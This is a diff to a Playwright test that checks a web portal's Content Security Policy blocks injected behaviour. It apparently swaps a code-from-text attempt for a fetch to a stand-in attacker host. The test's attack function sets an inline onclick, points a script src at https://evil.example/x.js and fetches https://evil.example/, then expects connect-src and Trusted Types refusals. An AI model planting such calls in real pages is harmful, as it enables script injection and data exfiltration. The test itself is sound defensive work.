@@ -8,18 +8,18 @@ import { loginForm, sendLogin } from '../support/sign-in.ts';
 import { serveSite } from '../support/static-site.ts';
 import { expect, mainPortalUrl, test } from '../support/test.ts';
 
-/** Tries to run an inline script, one of another origin, and code made of text; whether any ran. */
+/** Tries to make script of text, to load one from elsewhere, and to send something there; whether any script ran. */
 const attack = (page: Page) =>
-  page.evaluate(() => {
+  page.evaluate(async () => {
     const tries = [
       () => document.body.setAttribute('onclick', 'globalThis.ran = true'),
       () => document.body.click(),
       () => Reflect.set(document.createElement('script'), 'src', 'https://evil.example/x.js'),
-      () => new Function('globalThis.ran = true')(),
+      () => fetch('https://evil.example/'),
     ];
     for (const one of tries) {
       try {
-        one();
+        await one();
       } catch {
         // Refused: the page's policy tells.
       }
@@ -73,8 +73,8 @@ test('@cross SEC-41 the portal as files behind a plain server that hands /api on
   const refused = () => watch.faults().flatMap((fault) => /^policy: (\S+)/.exec(fault)?.[1] ?? []);
   await expect
     .poll(() => [...new Set(refused())].sort())
-    .toEqual(['require-trusted-types-for', 'script-src-attr']);
-  watch.allow(/^policy: /, /Content Security Policy|Trusted/);
+    .toEqual(['connect-src', 'require-trusted-types-for']);
+  watch.allow(/evil\.example/, /Trusted|globalThis\.ran/);
   await Promise.all([site.close(), plain.close()]);
   await removeFolder(folder);
 });
